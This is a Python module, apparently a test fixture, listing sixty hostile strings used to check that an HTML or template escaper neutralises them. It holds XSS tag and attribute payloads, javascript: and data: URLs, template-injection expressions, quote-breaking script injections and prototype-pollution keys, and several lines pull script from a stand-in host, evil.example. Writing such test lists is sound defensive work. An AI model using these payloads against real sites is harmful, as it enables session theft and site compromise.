"""Sixty texts that would do harm if any of them were taken for markup, for a script, or for a name of the language."""

from __future__ import annotations

import re

RUN = "window.__xss=1"
TAGS = """<script>R</script>
<ScRipt>R</ScRipt>
<script src=//evil.example/x.js></script>
<img src=x onerror=R>
"><img src=x onerror=R>
'><img src=x onerror=R>
<svg onload=R>
<svg><script>R</script></svg>
<body onload=R>
<iframe src="javascript:R"></iframe>
<iframe srcdoc="<script>parent.R</script>">
<math><mi xlink:href="javascript:R">x</mi></math>
<a href="javascript:R">x</a>
<input autofocus onfocus=R>
<details open ontoggle=R>
<video><source onerror=R></video>
<audio src=x onerror=R>
<object data="javascript:R">
<embed src="javascript:R">
<link rel=stylesheet href="//evil.example">
<style>@import"//evil.example"</style>
<base href="//evil.example/">
<meta http-equiv=refresh content="0;url=javascript:R">
<form action="javascript:R"><button>x
<marquee onstart=R>x
<template><script>R</script>
<noscript><p title="</noscript><img src=x onerror=R>">
<select onfocus=R autofocus>
<textarea onfocus=R autofocus>
<keygen onfocus=R autofocus>
</title><script>R</script>
</style><script>R</script>
</textarea><script>R</script>
</script><script>R</script>
</svg><script>R</script>
--><script>R</script>
]]><script>R</script>
<!--><img src=x onerror=R>
<![CDATA[<script>R</script>]]>
<?xml version="1.0"?><script>R</script>"""
OTHER = """javascript:R
data:text/html,<script>R</script>
&lt;script&gt;R&lt;/script&gt;
&#60;script&#62;R&#60;/script&#62;
\\u003cscript\\u003eR
" onmouseover="R
' onmouseover='R
` onmouseover=`R
" style="background:url(javascript:R)
${R}
{{constructor.constructor('R')()}}
<%= R %>
#{R}
';R;//
");R;//
\\";R;//
__proto__
constructor
toString
hasOwnProperty"""
HOSTILE = [re.sub(r"\bR\b", RUN, text) for part in (TAGS, OTHER) for text in part.split("\n")]
assert len(HOSTILE) == len(set(HOSTILE)) == 60, len(HOSTILE)
